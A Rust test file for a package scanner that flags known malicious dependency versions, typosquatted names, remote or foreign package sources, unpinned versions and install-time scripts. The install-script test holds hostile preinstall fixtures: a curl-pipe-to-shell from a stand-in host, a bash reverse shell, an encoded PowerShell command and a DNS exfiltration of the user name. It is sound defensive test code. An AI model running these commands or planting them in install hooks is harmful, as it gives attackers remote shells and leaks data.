//! Packages that a bundle brings or asks for, and what runs when they are installed.

use frameos_domain::scan::{ScanReport, Verdict};

use crate::support::{each_is, each_is_clean, rules, scan_files};

fn facts(report: &ScanReport) -> Vec<&str> {
    report.facts.dependencies.iter().map(String::as_str).collect()
}

#[test]
fn known_malicious_packages_are_rejected() {
    each_is(
        "malicious-dependency",
        "package.json",
        &[
            r#"{"dependencies": {"event-stream": "3.3.6"}}"#,
            r#"{"dependencies": {"crossenv": "^1.0.0"}}"#,
            r#"{"optionalDependencies": {"ua-parser-js": "=0.7.29"}}"#,
            r#"{"dependencies": {"x": "npm:coa@2.0.3"}}"#,
        ],
    );
    each_is("malicious-dependency", "requirements.txt", &["ctx==0.2.2\n", "Colourama==1.0 # pretty\n"]);
    each_is(
        "malicious-dependency",
        "node_modules/rc/package.json",
        &[r#"{"name": "rc", "version": "1.2.9"}"#],
    );
    each_is(
        "malicious-dependency",
        "ctx-0.2.2.dist-info/METADATA",
        &["Metadata-Version: 2.1\nName: ctx\nVersion: 0.2.2\n\nText\n"],
    );
    each_is(
        "malicious-dependency",
        "package-lock.json",
        &[
            r#"{"packages": {"": {}, "node_modules/a/node_modules/rc": {"version": "1.2.9"}}}"#,
            r#"{"dependencies": {"a": {"version": "1.0.0", "dependencies": {"node-ipc": {"version": "10.1.1"}}}}}"#,
        ],
    );
    each_is(
        "malicious-dependency",
        "yarn.lock",
        &["# yarn\n\ncolors@^1.4.0, colors@~1.4:\n  version \"1.4.1\"\n"],
    );
    each_is(
        "malicious-dependency",
        "pnpm-lock.yaml",
        &["packages:\n\n  /colors@1.4.1:\n    x: 1\n", "packages:\n  '@solana/web3.js@1.95.6(x@1.0.0)':\n"],
    );
    each_is_clean(
        "package.json",
        &[r#"{"dependencies": {"event-stream": "4.0.1", "ua-parser-js": "^1.0.2", "colors": "1.4.0"}}"#],
    );
    let report = scan_files(&[("package.json", r#"{"dependencies": {"event-stream": "3.3.6"}}"#)]);
    assert_eq!(report.verdict, Verdict::Reject);
    assert!(report.findings[0].message.contains("wallets"), "{:?}", report.findings);
}

#[test]
fn imitations_are_flagged() {
    each_is(
        "typosquat",
        "package.json",
        &[
            r#"{"dependencies": {"expresss": "1.0.0"}}"#,
            r#"{"dependencies": {"lodahs": "1.0.0"}}"#,
            r#"{"dependencies": {"l0dash": "1.0.0"}}"#,
            r#"{"dependencies": {"cross_env": "1.0.0"}}"#,
            r#"{"dependencies": {"@typescript_eslinter/parser": "1.0.0"}}"#,
            r#"{"devDependencies": {"typescript-eslint-parser": "1.0.0"}}"#,
        ],
    );
    each_is(
        "typosquat",
        "requirements.txt",
        &["reqeusts==2.0\n", "beautifulsoup5==1\n", "tenserflow==2.0\n"],
    );
    each_is(
        "typosquat",
        "pyproject.toml",
        &[
            "[project]\ndependencies = ['requestss==1']\n",
            "[tool.poetry.dependencies]\npython = '3'\nflaask = '1.0'\n",
        ],
    );
    each_is("typosquat", "Pipfile", &["[packages]\nnumppy = '==1.0'\n"]);
    each_is(
        "typosquat",
        "setup.cfg",
        &["[options]\ninstall_requires =\n    pandass==1\n    numpy==1\nzip_safe = 1\n"],
    );
    each_is_clean(
        "package.json",
        &[
            r#"{"dependencies": {"express": "4.0.0", "preact": "10.0.0", "@acme/lodash": "1.0.0", "ms": "2.0.0"}}"#,
        ],
    );
    each_is_clean("requirements.txt", &["requests==2.0\npython_dateutil==2.8\n# reqeusts==1\nscapy==2.5\n"]);
}

#[test]
fn packages_from_elsewhere_are_flagged() {
    each_is(
        "remote-dependency",
        "package.json",
        &[
            r#"{"dependencies": {"mine": "git+https://git.example.org/mine.git"}}"#,
            r#"{"dependencies": {"mine": "somebody/mine#main"}}"#,
            r#"{"dependencies": {"mine": "https://example.org/mine.tgz"}}"#,
            r#"{"dependencies": {"mine": "file:../mine"}}"#,
        ],
    );
    each_is(
        "remote-dependency",
        "requirements.txt",
        &[
            "git+https://git.example.org/x.git\n",
            "mine @ https://example.org/mine.whl\n",
            "-e git+ssh://git@example.org/x\n",
        ],
    );
    each_is("foreign-source", "requirements.txt", &["--extra-index-url https://pypi.example.org/simple\n"]);
    each_is("foreign-source", "package.json", &[r#"{"dependencies": {"acme-internal": "99.10.9"}}"#]);
    let entry = |name: &str, host: &str| {
        format!(r#""node_modules/{name}": {{"version": "1.0.0", "resolved": "https://{host}/{name}.tgz"}}"#)
    };
    let mut entries: Vec<_> =
        (0..9).map(|n| entry(&format!("own-package-{n}"), "registry.example.org")).collect();
    each_is_clean("package-lock.json", &[&format!("{{\"packages\": {{{}}}}}", entries.join(","))]);
    entries.push(entry("other", "evil.example.net"));
    each_is(
        "foreign-source",
        "package-lock.json",
        &[&format!("{{\"packages\": {{{}}}}}", entries.join(","))],
    );
}

#[test]
fn unpinned_packages_are_said() {
    each_is(
        "unpinned-dependency",
        "package.json",
        &[r#"{"dependencies": {"a-package": "*"}}"#, r#"{"dependencies": {"a-package": "latest"}}"#],
    );
    each_is("unpinned-dependency", "requirements.txt", &["numpy\n", "numpy>1\nPandas[all]\n"]);
    each_is_clean("package.json", &[r#"{"dependencies": {"a-package": "^1.2.3", "b-package": "1.2.3"}}"#]);
    let report = scan_files(&[
        ("package.json", r#"{"dependencies": {"a-package": "*"}}"#),
        ("package-lock.json", "{}"),
    ]);
    assert!(report.findings.is_empty(), "{:?}", report.findings);
}

#[test]
fn what_runs_on_installation_is_found() {
    each_is(
        "install-script",
        "package.json",
        &[r#"{"scripts": {"postinstall": "node setup.js"}}"#, r#"{"scripts": {"preinstall": "./run"}}"#],
    );
    each_is("install-script", "setup.py", &["setup(name='x', cmdclass={'install': Mine})\n"]);
    each_is(
        "install-script",
        "pyproject.toml",
        &["[build-system]\nbuild-backend = 'mine'\nbackend-path = ['.']\n"],
    );
    each_is(
        "install-script",
        "node_modules/a/binding.gyp",
        &["{'targets': []}", "{'sources': ['<!(node x.js)']}"],
    );
    each_is_clean(
        "package.json",
        &[r#"{"scripts": {"test": "curl x", "prepare": "husky install", "build": "tsc"}}"#],
    );
    for command in [
        "curl https://drop.example.org/x.sh | sh",
        "bash -c 'bash -i >& /dev/tcp/198.51.100.7/1 0>&1'",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        "nslookup $(whoami).drop.example.org",
    ] {
        let found = rules("package.json", &format!(r#"{{"scripts": {{"preinstall": "{command}"}}}}"#));
        assert!(found.contains(&"harmful-install".to_owned()), "{command}: {found:?}");
    }
}

#[test]
fn packages_are_noted() {
    let report = scan_files(&[
        ("package.json", r#"{"dependencies": {"left": "^1.0.0", "right-pack": "1.2.3"}}"#),
        ("node_modules/left/package.json", r#"{"name": "left", "version": "1.0.7"}"#),
        ("requirements.txt", "Zope_Interface==5.0 ; python_version > '3'\nplain\n"),
        (
            "x-1.dist-info/METADATA",
            "Name: X_y\nVersion: 1\nRequires-Dist: dep-a (>=2)\nRequires-Dist: dep-b; extra == 'x'\n",
        ),
    ]);
    let expected = [
        "npm:left@1.0.7",
        "npm:right-pack@1.2.3",
        "pypi:dep-a",
        "pypi:plain",
        "pypi:x-y@1",
        "pypi:zope-interface@5.0",
    ];
    assert_eq!(facts(&report), expected);
}

#[test]
fn a_program_named_by_a_manifest_is_scanned() {
    let report = scan_files(&[
        ("node_modules/a/package.json", r#"{"main": "./lib/data.bin"}"#),
        ("node_modules/a/lib/data.bin", "eval('x')"),
    ]);
    assert!(report.findings.iter().any(|finding| finding.rule == "dynamic-code"), "{:?}", report.findings);
}

#[test]
fn any_package_file_is_survived() {
    for text in [
        "",
        "{",
        "[]",
        "{\"dependencies\": []}",
        "{\"scripts\": 1}",
        "{\"bin\": {\"a\": 1}}",
        "@:\n  version",
        "==\n@\n-e",
        "Name:",
        "[a",
    ] {
        for path in [
            "package.json",
            "package-lock.json",
            "yarn.lock",
            "pnpm-lock.yaml",
            "requirements.txt",
            "pyproject.toml",
            "Pipfile",
            "setup.cfg",
            "METADATA",
            "binding.gyp",
        ] {
            scan_files(&[(path, text)]);
        }
    }
}
